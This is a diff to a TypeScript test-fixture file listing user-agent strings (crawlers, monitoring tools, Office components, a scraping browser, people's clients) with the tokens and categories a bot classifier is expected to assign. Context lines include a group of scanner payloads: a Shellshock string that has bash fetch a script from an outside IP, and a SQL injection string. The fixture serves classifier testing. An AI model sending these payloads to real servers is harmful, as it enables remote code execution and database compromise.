@@ -3,7 +3,8 @@
  * and the ingest endpoints' tests. Crawler agents are as crawler lists (monperrus/crawler-user-agents,
  * arcjet/well-known-bots) and vendors' crawler pages print them; people's agents as parser test data
  * (ua-parser/uap-core, bowser) gives them; the bad-agent list's crawlers as crawler-user-agents and uap-core's
- * test data print them. `token` is the catalog token expected, or "unknown" for automation
+ * test data print them; the names-only lists' crawlers (COUNTER-Robots, fnando/browser, GoAccess) as fnando/browser's
+ * test data prints them. `token` is the catalog token expected, or "unknown" for automation
  * the catalog does not name; `category` the category expected.
  */
 
@@ -215,6 +216,38 @@ export const AUTOMATED_KINDS: Record<string, AutomatedAgent[]> = {
     { ua: "Pinterest/0.2 (+http://www.pinterest.com/)", token: "unknown", category: "other" },
     { ua: "Ghost/2.13.1+moya (https://github.com/TryGhost/Ghost)", token: "unknown", category: "other" },
   ],
+  // agents as fnando/browser's test data prints them (MIT); the names from its bot list, COUNTER-Robots and GoAccess
+  "crawlers named only by COUNTER-Robots, fnando/browser or GoAccess": [
+    { ua: "ImplisenseBot 1.0", token: "ImplisenseBot", category: "other" },
+    { ua: "NewRelicPinger/1.0 (12345)", token: "NewRelicPinger", category: "monitoring" },
+    { ua: "ScoutURLMonitor/6.2.2", token: "ScoutURLMonitor", category: "monitoring" },
+    {
+      ua: "Mozilla/5.0 (compatible; SEOdiver/1.0; +http://www.seodiver.com/bot)",
+      token: "SEOdiver",
+      category: "seo_tool",
+    },
+    { ua: "Quick-Crawler (+https://www.scrapinghub.com/)", token: "Quick-Crawler", category: "other" },
+  ],
+  // OS and Office components that fetch certificates and updates or probe a link before a program opens it: no
+  // page a person reads (uap-core's test data files the first two among its crawlers; COUNTER-Robots lists the rest)
+  "OS and Office components": [
+    { ua: "Microsoft-CryptoAPI/10.0", token: "unknown", category: "other" },
+    { ua: "Windows-Update-Agent/7.9.9600.17729 Client-Protocol/1.21", token: "unknown", category: "other" },
+    { ua: "Microsoft Office Existence Discovery", token: "unknown", category: "other" },
+    { ua: "Microsoft Office Protocol Discovery", token: "unknown", category: "other" },
+    { ua: "Microsoft-WebDAV-MiniRedir/10.0.19045", token: "unknown", category: "other" },
+  ],
+  // a Firefox build made to evade bot detection (uap-core's test data files it as a browser, its comment as a
+  // scraping tool) and an S3 storage client giving its home page and no platform
+  "scraping browsers and storage API clients": [
+    {
+      ua:
+        "Mozilla/5.0 (X11; Linux x86_64; rv:Camoufox Camoufox 140.0) Gecko/20100101 Firefox/Camoufox Camoufox 140.0",
+      token: "unknown",
+      category: "other",
+    },
+    { ua: "S3 Browser 8.6.7 https://s3browser.com", token: "unknown", category: "other" },
+  ],
   "scanners that put payloads in the agent": [
     { ua: '() { :; }; /bin/bash -c "wget http://198.51.100.7/x.sh"', token: "unknown", category: "other" },
     { ua: "Mozilla/5.0' or 1=1--", token: "unknown", category: "other" },
@@ -261,6 +294,23 @@ export const PEOPLE_KINDS: Record<string, string[]> = {
     "CITA RSS Aggregator/2.7",
     "ArcGIS Client Using WinInet",
     "JOSM/1.5 (15492 nl) Windows 7 64-Bit Java/1.8.0_221",
+  ],
+  // names no vendor runs a fetcher under: the name alone is the person's client (uap-core's test data)
+  "desktop mail and office clients by their name alone": [
+    "The Bat! 4.0.0.22",
+    "Microsoft Office/16.0 (Microsoft Outlook Mail 16.0.6525; Pro)",
+    "OC/15.0.5071.1000 (Skype for Business)",
+  ],
+  // social and messaging apps whose vendors also fetch links under the app's name: the app names its device
+  "apps of services that also run fetchers, naming their device": [
+    "Pinterest for Android/3.6.2 (klte; 4.4.2)",
+    "Pinterest/3.2 CFNetwork/672.0.8 Darwin/14.0.0",
+  ],
+  // browsers the new names-only lists also hold (COUNTER-Robots lists ELinks; GoAccess files apps among crawlers)
+  "browsers and apps a robots list also names": [
+    "ELinks/0.16.1.1 (textmode; Linux 6.5.0 x86_64; 213x56-2)",
+    "ELinks (0.4pre5; Linux 2.6.10-ac7 i686; 80x33)",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 LinkedInApp/9.29.4066",
   ],
   "in-app browsers whose carrier field holds a crawler word": [
     "Mozilla/5.0 (iPhone; CPU iPhone OS 11_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15G77 [FBAN/FBIOS;FBAV/194.0.0.38.99;FBBV/127868476;FBDV/iPhone7,2;FBMD/iPhone;FBSN/iOS;FBSV/11.4.1;FBSS/2;FBCR/OrangeBotswana;FBID/phone;FBLC/en_GB;FBOP/5;FBRV/128807018]",
